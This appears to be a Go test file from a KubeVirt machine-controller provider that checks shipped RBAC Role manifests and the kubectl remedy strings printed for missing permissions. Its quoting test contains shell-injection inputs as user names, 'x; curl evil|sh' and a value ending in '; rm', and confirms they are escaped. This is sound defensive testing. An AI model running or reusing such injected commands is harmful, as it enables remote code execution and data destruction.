// SPDX-FileCopyrightText: The machine-controller-manager-provider-kubevirt Authors
// SPDX-License-Identifier: Apache-2.0

package checks

import (
	"bytes"
	"maps"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	rbacv1 "k8s.io/api/rbac/v1"
	"sigs.k8s.io/yaml"

	manifests "github.com/gardener/machine-controller-manager-provider-kubevirt/kubernetes"
	"github.com/gardener/machine-controller-manager-provider-kubevirt/pkg/providerapi"
)

// TestPermissions_AreShipped compares the checked permissions with the granted ones, part by
// part.
func TestPermissions_AreShipped(t *testing.T) {
	t.Parallel()

	asked := func(parts ...*part) map[string]bool {
		set := map[string]bool{}

		for _, r := range permissions() {
			for _, p := range parts {
				if r.part == p {
					addTo(set, []string{r.group}, []string{r.resource}, r.verbs)
				}
			}
		}

		return set
	}

	all := granted(t, "provider-namespace/rbac.yaml")
	require.Equal(t, all, asked(machines, goldenImages, diagnosis))

	maps.Copy(all, granted(t, "evacuation/provider-namespace/rbac.yaml"))
	require.Equal(t, all, asked(machines, goldenImages, diagnosis, evacuation), "both Roles go together")
}

// granted returns the rules of the Roles in a shipped manifest.
func granted(t *testing.T, file string) map[string]bool {
	t.Helper()

	raw, err := manifests.Manifests.ReadFile(file)
	require.NoError(t, err)

	set := map[string]bool{}

	for document := range bytes.SplitSeq(raw, []byte("\n---\n")) {
		var role rbacv1.Role

		require.NoError(t, yaml.Unmarshal(document, &role))

		if role.Kind == "Role" {
			for _, rule := range role.Rules {
				require.Empty(t, rule.ResourceNames)
				addTo(set, rule.APIGroups, rule.Resources, rule.Verbs)
			}
		}
	}

	require.NotEmpty(t, set)

	return set
}

func addTo(set map[string]bool, groups, resources, verbs []string) {
	for _, group := range groups {
		for _, resource := range resources {
			for _, verb := range verbs {
				set[verb+" "+resource+"."+group] = true
			}
		}
	}
}

// user returns the reader of a driver with a user name, in a namespace.
func user(namespace, name string) *reader {
	return &reader{
		Identity: Identity{Name: Driver, From: "--provider-kubeconfig", User: name},
		clients:  &providerapi.Clients{Namespace: namespace},
	}
}

func TestSubjectFlag(t *testing.T) {
	t.Parallel()

	require.Equal(t, "--serviceaccount=machines:driver", subjectFlag("system:serviceaccount:machines:driver"))
	require.Equal(t, "--user=jane", subjectFlag("jane"))
	require.Equal(t, "--user='x; curl evil|sh'", subjectFlag("x; curl evil|sh"))
	require.Equal(t, "--serviceaccount='a:b'\\''; rm'", subjectFlag("system:serviceaccount:a:b'; rm"))
	require.Equal(t, "--user=NAME", subjectFlag(""), "the user name is unknown")
}

// TestReportMissing lacks all permissions, as before the Roles are applied.
func TestReportMissing(t *testing.T) {
	t.Parallel()

	shipped := user("shoot-machines", "system:serviceaccount:shoot-machines:machine-controller")
	ofMachines := reportMissing(shipped, machineRole, permissions(), false)
	ofEvacuation := reportMissing(shipped, evacuationRole, permissions(), false)
	require.Len(t, ofMachines, 1)
	require.Len(t, ofEvacuation, 1)
	require.Equal(t, Error, ofMachines[0].Level)
	require.True(t, strings.HasPrefix(ofMachines[0].Remedy, "kubectl apply -k kubernetes/provider-namespace"), ofMachines[0].Remedy)
	require.Contains(t, ofMachines[0].Message, "pods (list)")
	require.Contains(t, ofEvacuation[0].Remedy, "kubectl apply -k kubernetes/evacuation/provider-namespace")
	require.NotContains(t, ofMachines[0].Remedy+ofEvacuation[0].Remedy, "rolebinding", "the shipped ones fit")

	require.Equal(t, "set namespace: others in kubernetes/provider-namespace/kustomization.yaml and run: kubectl apply -k kubernetes/provider-namespace"+
		" && kubectl --namespace others create rolebinding machine-controller-driver --role=machine-controller --user=jane",
		grant(user("others", "jane"), machineRole))

	optional := reportMissing(shipped, machineRole, []permission{{part: diagnosis, resource: "pods", verbs: []string{"list"}}}, true)
	require.Equal(t, Warning, optional[0].Level, "machines can be created without it")
	require.Empty(t, reportMissing(shipped, evacuationRole, []permission{{part: evacuation, resource: "pods"}}, true), "no verb is missing")
}
